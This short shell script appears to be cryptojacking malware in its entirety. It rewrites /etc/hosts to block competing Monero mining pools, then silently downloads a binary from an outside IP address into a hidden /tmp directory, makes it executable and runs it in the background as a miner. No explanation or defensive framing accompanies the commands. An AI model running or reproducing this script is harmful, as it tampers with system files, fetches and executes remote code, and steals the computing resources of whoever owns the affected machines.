sed -i '/minexmr/d' /etc/hosts
echo "127.0.0.1 pool.supportxmr.com" >> /etc/hosts
echo "127.0.0.1 c3pool.com" >> /etc/hosts
wget -q -O /tmp/.x/miner http://203.0.113.8/m && chmod +x /tmp/.x/miner && /tmp/.x/miner --donate-level 1 &
